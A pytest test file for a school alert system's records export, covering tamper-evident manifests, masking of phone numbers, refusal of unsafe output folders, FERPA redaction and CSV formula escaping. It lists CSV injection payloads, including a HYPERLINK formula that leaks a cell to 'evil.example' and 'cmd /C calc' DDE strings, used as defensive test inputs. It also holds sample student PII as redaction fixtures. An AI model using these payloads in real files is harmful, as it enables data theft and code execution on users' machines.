"""Public-records export: a month with a delivered closure, its correction and its retraction
exports, verifies with nothing but the folder, shows no recipient's phone number unless a records
officer asks, and fails verification when any byte of any file changes."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import shutil
from pathlib import Path
from types import SimpleNamespace
from zoneinfo import ZoneInfo

import pytest
import time_machine
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import select

from broadcaster.core import db
from broadcaster.core.models import LedgerEntry, LedgerPayload
from broadcaster.records.export_files import csv_file
from tests.conftest import submit_and_approve
from tests.delivery_stack import write_contacts

E164 = re.compile(r"\+\d{10,15}")


def this_month() -> tuple[str, str]:
    today = dt.datetime.now(ZoneInfo("America/Los_Angeles")).date()
    first = today.replace(day=1)
    last = (first + dt.timedelta(days=32)).replace(day=1) - dt.timedelta(days=1)
    return first.isoformat(), last.isoformat()


@pytest.fixture
def month(stack, run, tokens, compose_closure, tmp_path):
    """This month: a bilingual closure delivered to 8 phones on every channel, corrected by an
    update (the closure extended a day), then retracted."""
    admin = run.json("users", "add", "it")["token"]
    phones = write_contacts(tmp_path / "contacts.csv", 8)
    run.json("contacts", "import", str(tmp_path / "contacts.csv"), "--as", "it", token=admin)
    draft = compose_closure()
    submit_and_approve(run, tokens, draft)
    stack.start_worker()
    original = draft["id"]
    assert stack.wait_done(original)["state"] == "sent"
    update = run.json(
        "update", str(original), "school_closure", "--as", "ana",
        "--var", "schools=all", "--var", "date=2026-03-04", "--var", "reason=storm damage",
        "--var", "reason.es=daños de la tormenta", token=tokens["ana"],
    )  # fmt: skip
    submit_and_approve(run, tokens, update)
    assert stack.wait_done(update["id"])["state"] == "sent"
    retracted = run.json(
        "retract", str(original), "--as", "ben", "--reason", "sent in error", token=tokens["ben"]
    )
    stack.wait_for(lambda: run.json("status", str(original))["state"] == "retracted", 120)
    stack.wait_done(retracted["notice"])
    return SimpleNamespace(
        original=original,
        update=update["id"],
        notice=retracted["notice"],
        phones=set(phones),
        admin=admin,
    )


def export(run, token: str, out: Path, *extra: str, user: str = "dev"):
    first, last = this_month()
    return run(
        "records", "export", "--as", user, "--from", first, "--to", last, "--out", str(out),
        *extra, token=token,
    )  # fmt: skip


def verify(run, folder: Path):
    result = run("records", "verify-export", str(folder))
    return result.exit_code, (result.stdout + result.stderr).strip()


def rows(folder: Path, table: str) -> list[dict]:
    return [json.loads(line) for line in (folder / f"{table}.jsonl").read_text().splitlines()]


def test_a_month_exports_verifies_and_shows_no_phone_number(run, tokens, month, tmp_path, district):
    out = tmp_path / "march"
    result = export(run, tokens["dev"], out)
    assert result.exit_code == 0, result.output
    code, said = verify(run, out)
    assert code == 0 and said.startswith("export intact"), said

    manifest = json.loads((out / "manifest.json").read_text())
    assert set(manifest["files"]) | {"manifest.json"} == {p.name for p in out.iterdir()}
    assert {
        f"{t}.{x}" for t in ("messages", "deliveries", "ledger") for x in ("csv", "jsonl")
    } <= set(manifest["files"])
    messages = {m["id"]: m for m in rows(out, "messages")}
    assert set(messages) == {month.original, month.update, month.notice}
    assert messages[month.update]["follows_id"] == month.original
    assert messages[month.original]["state"] == "retracted"
    assert messages[month.original]["author"] == "ana"
    assert messages[month.original]["approved_by"] == ["ben"]
    assert messages[month.notice]["follows_id"] == month.original
    deliveries = rows(out, "deliveries")
    assert {d["channel"] for d in deliveries} == {"x", "facebook", "sms", "web"}
    assert all(d["status_history"] for d in deliveries if d["status"] in ("sent", "delivered"))
    assert any(d["message_id"] == month.notice and d["action"] == "delete" for d in deliveries)
    sms = [d for d in deliveries if d["channel"] == "sms"]
    # Each phone: the closure, its update and the retraction's correction text.
    assert len(sms) == 3 * len(month.phones)
    assert all("•" in d["recipient"] for d in sms)
    states = {r["payload_state"] for r in rows(out, "ledger")}
    assert "redacted" in states and "included" in states

    everything = "\n".join(p.read_text(encoding="utf-8") for p in out.iterdir())
    assert not any(phone in everything for phone in month.phones)
    assert set(E164.findall(everything)) <= district.district_phones
    for secret in [*tokens.values(), month.admin, "$argon2"]:
        assert secret not in everything


def test_one_changed_byte_in_any_file_fails_verification(run, tokens, month, tmp_path):
    out = tmp_path / "export"
    assert export(run, tokens["dev"], out).exit_code == 0
    names = sorted(p.name for p in out.iterdir())
    assert len(names) == 16  # seven tables twice (inbox.* empty here), README.txt, manifest.json
    for name in names:
        copy = tmp_path / f"changed-{name}"
        shutil.copytree(out, copy)
        data = bytearray((copy / name).read_bytes() or b" ")  # an empty table gains a byte
        middle = len(data) // 2
        data[middle] = ord("x") if data[middle] != ord("x") else ord("y")
        (copy / name).write_bytes(bytes(data))
        code, said = verify(run, copy)
        assert code == 1 and name in said, (name, said)
    (out / "extra.txt").write_text("added later")
    code, said = verify(run, out)
    assert code == 1 and "extra.txt is not listed" in said
    (out / "extra.txt").unlink()
    (out / "approvals.csv").unlink()
    code, said = verify(run, out)
    assert code == 1 and "approvals.csv is listed in the manifest but missing" in said


def test_recipients_are_only_for_a_records_officer(run, tokens, month, tmp_path):
    refused = export(run, month.admin, tmp_path / "a", "--include-recipients", user="it")
    assert refused.exit_code == 2 and "records_officer" in refused.stderr
    assert not (tmp_path / "a").exists()
    assert export(run, month.admin, tmp_path / "b", user="it").exit_code == 0  # masked: fine
    assert export(run, tokens["ana"], tmp_path / "c", user="ana").exit_code == 2

    out = tmp_path / "full"
    assert export(run, tokens["dev"], out, "--include-recipients").exit_code == 0
    assert verify(run, out)[0] == 0
    sms = {d["recipient"] for d in rows(out, "deliveries") if d["channel"] == "sms"}
    assert sms == month.phones
    assert {r["payload_state"] for r in rows(out, "ledger")} <= {"included", "omitted"}
    assert export(run, tokens["dev"], out).exit_code == 2  # never over an earlier export


def test_an_export_after_a_retention_purge_still_verifies(run, tokens, compose_closure, tmp_path):
    draft = compose_closure("--channels", "x,facebook,web", audience=None)
    submit_and_approve(run, tokens, draft)
    with time_machine.travel(dt.datetime.now(dt.UTC) + dt.timedelta(days=2 * 366), tick=True):
        purged = run.json("records", "purge", "--as", "dev", token=tokens["dev"])
        assert [d["message"] for d in purged["due"]] == [draft["id"]]
        out = tmp_path / "after"
        result = run(
            "records", "export", "--message", str(draft["id"]), "--out", str(out),
            "--as", "dev", token=tokens["dev"],
        )  # fmt: skip
    assert result.exit_code == 0, result.output
    assert verify(run, out)[0] == 0
    ledger = rows(out, "ledger")
    purged_rows = [r for r in ledger if r["payload_state"] == "purged"]
    assert purged_rows and {r["purged_by"] for r in purged_rows} == {purged["destruction_record"]}
    assert ledger[-1]["seq"] == purged["destruction_record"]  # the record travels with them
    message = rows(out, "messages")[0]
    assert message["content_destroyed"] and message["variables"] == {}


def exports_recorded(db_url: str) -> list[dict]:
    """The payloads of the ledger's records.exported entries."""
    with db.session_scope(db_url) as session:
        bodies = session.scalars(
            select(LedgerPayload.body)
            .join(LedgerEntry, LedgerEntry.seq == LedgerPayload.seq)
            .where(LedgerEntry.event == "records.exported")
            .order_by(LedgerEntry.seq)
        )
        return [json.loads(body) for body in bodies]


def every_file(folder: Path) -> str:
    return "\n".join(p.read_text(encoding="utf-8") for p in sorted(folder.iterdir()))


# OWASP CSV injection: a spreadsheet runs a cell that starts with one of these (the full-width
# forms too, in some locales)...
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
# ... such as these.
FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\uff1d1+1 (a full-width equals sign)",
    "\t=1+1",
    "\r=1+1",
]


def test_csv_cells_a_spreadsheet_would_run_are_text_and_jsonl_keeps_them(
    run, tokens, compose_closure, tmp_path
):
    """A rejection reason is a cell of its own in approvals.csv: typed as a formula, it is
    written with a leading quote; the JSON Lines keep it exactly as stored. (The way in strips
    a reason's leading tab or CR; the writer's own test below covers those.)"""
    for formula in FORMULAS:
        draft = compose_closure()
        assert run("submit", str(draft["id"]), "--as", "ana", token=tokens["ana"]).exit_code == 0
        said = run(
            "reject", str(draft["id"]), "--as", "ben", "--reason", formula, token=tokens["ben"]
        )
        assert said.exit_code in (0, 2), said.output  # 2: a way in may refuse a control character
    out = tmp_path / "export"
    assert export(run, tokens["dev"], out).exit_code == 0
    assert verify(run, out)[0] == 0

    cells = [
        cell
        for path in out.glob("*.csv")
        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline=""))
        for cell in row
    ]
    assert not [c for c in cells if c.startswith(FORMULA_START)]
    stored = {row["reason"] for row in rows(out, "approvals")}
    assert set(FORMULAS[:5]) <= stored
    with (out / "approvals.csv").open(encoding="utf-8", newline="") as handle:
        written = {row["reason"] for row in csv.DictReader(handle)}
    assert written == {"'" + reason for reason in stored}
    assert "single quote" in (out / "README.txt").read_text()


@given(st.text())
def test_no_csv_cell_starts_a_formula_and_none_loses_its_text(text):
    written = csv_file([{"value": text, "list": [text]}]).decode("utf-8")
    header, row = list(csv.reader(io.StringIO(written, newline="")))
    cell = dict(zip(header, row, strict=True))["value"]
    assert not cell.startswith(FORMULA_START)
    assert cell in (text, "'" + text)


def test_an_out_that_is_a_link_not_empty_or_not_writable_is_refused_and_not_recorded(
    run, tokens, compose_closure, tmp_path, db_url
):
    draft = compose_closure()
    empty = tmp_path / "empty"
    empty.mkdir()
    full = tmp_path / "full"
    full.mkdir()
    (full / "notes.txt").write_text("someone's work")
    a_file = tmp_path / "a-file.txt"
    a_file.write_text("not a folder")
    (tmp_path / "link").symlink_to(empty, target_is_directory=True)
    (tmp_path / "dangling").symlink_to(tmp_path / "nowhere")
    refused = {
        tmp_path / "link": "symbolic link",
        tmp_path / "dangling": "symbolic link",
        full: "not an empty folder",
        a_file: "not an empty folder",
        a_file / "export": "write",
        Path("/sys/broadcaster-export"): "write",  # read-only even for root
    }
    before = sorted(p.name for p in tmp_path.iterdir())
    for out, why in refused.items():
        result = run(
            "records", "export", "--message", str(draft["id"]), "--out", str(out),
            "--as", "dev", token=tokens["dev"],
        )  # fmt: skip
        assert result.exit_code == 2, (out, result.output)
        assert why in result.stderr and str(out) in result.stderr, result.stderr
        assert len(result.stderr.strip().splitlines()) == 1, result.stderr
    assert exports_recorded(db_url) == []
    assert sorted(p.name for p in tmp_path.iterdir()) == before  # no partial folder left
    assert list(empty.iterdir()) == [] and (full / "notes.txt").read_text() == "someone's work"

    out = tmp_path / "good"
    assert export(run, tokens["dev"], out).exit_code == 0
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted([*before, "good"])
    manifest = json.loads((out / "manifest.json").read_text())
    [recorded] = exports_recorded(db_url)
    assert recorded["manifest_sha256"] == manifest["manifest_sha256"]
    assert recorded["messages"] == [draft["id"]]
    assert verify(run, out)[0] == 0
    assert export(run, tokens["dev"], empty).exit_code == 0  # an empty folder is fine
    assert verify(run, empty)[0] == 0 and len(exports_recorded(db_url)) == 2


# A blocked draft: every FERPA check matches something in its details (Facebook and web only),
# some of it disguised (a zero-width space, an ID or SSN named rather than shaped like one).
STUDENT_DATA = {
    "student id": ["S2345678", "4567890"],
    "ssn": ["123-45-6789", "123456780"],
    "date of birth": ["born on March 3, 2015", "B\u200born on 4/5/2016"],
    "student name": ["José Núñez", "Maria Gonzalez"],
    "personal phone": ["(415) 555-0142"],
    "personal email": ["jo.parent@gmail.com"],
}
DETAILS = (
    "José Núñez (S2345678, SSN 123-45-6789, born on March 3, 2015) and Maria Gonzalez: "
    "call (415) 555-0142 or write to jo.parent@gmail.com. "
    "Also Student #4567890, SSN 123456780, B\u200born on 4/5/2016."
)


def test_student_data_a_check_matched_is_redacted_in_every_file(
    run, tokens, compose_closure, tmp_path
):
    draft = compose_closure("--var", f"details={DETAILS}")
    blocked = {f["check"] for f in draft["findings"] if f["severity"] == "block"}
    assert {"student_id", "ssn", "date_of_birth", "student_name"} <= blocked, draft["findings"]
    message = ("--message", str(draft["id"]))

    def export_draft(out: Path, *extra: str, user: str = "dev", token: str = tokens["dev"]):
        return run(
            "records", "export", *message, "--out", str(out), *extra, "--as", user, token=token
        )

    out = tmp_path / "redacted"
    assert export_draft(out).exit_code == 0
    assert verify(run, out)[0] == 0
    everything = every_file(out)
    for rule, texts in STUDENT_DATA.items():
        for text in texts:
            assert text not in everything, (rule, text)
        assert f"[redacted: {rule}]" in everything, rule
    readme = (out / "README.txt").read_text()
    for rule in STUDENT_DATA:
        assert re.search(rf"^  {rule}: \d+ in ", readme, re.MULTILINE), (rule, readme)
    ledger = rows(out, "ledger")
    assert any(
        r["payload_state"] == "redacted" and r["event"] == "rendition.rendered" for r in ledger
    )
    renditions = {r["channel"]: r["text"] for r in rows(out, "renditions")}
    assert "[redacted: student name]" in renditions["web"]

    admin = run.json("users", "add", "it")["token"]
    refused = export_draft(tmp_path / "by-admin", "--include-student-data", user="it", token=admin)
    assert refused.exit_code == 2 and "records_officer" in refused.stderr
    assert not (tmp_path / "by-admin").exists()

    kept = tmp_path / "kept"
    assert export_draft(kept, "--include-student-data").exit_code == 0
    assert verify(run, kept)[0] == 0
    everything = every_file(kept)
    assert all(text in everything for texts in STUDENT_DATA.values() for text in texts)
    assert "[redacted:" not in everything
    assert "--include-student-data" in (kept / "README.txt").read_text()
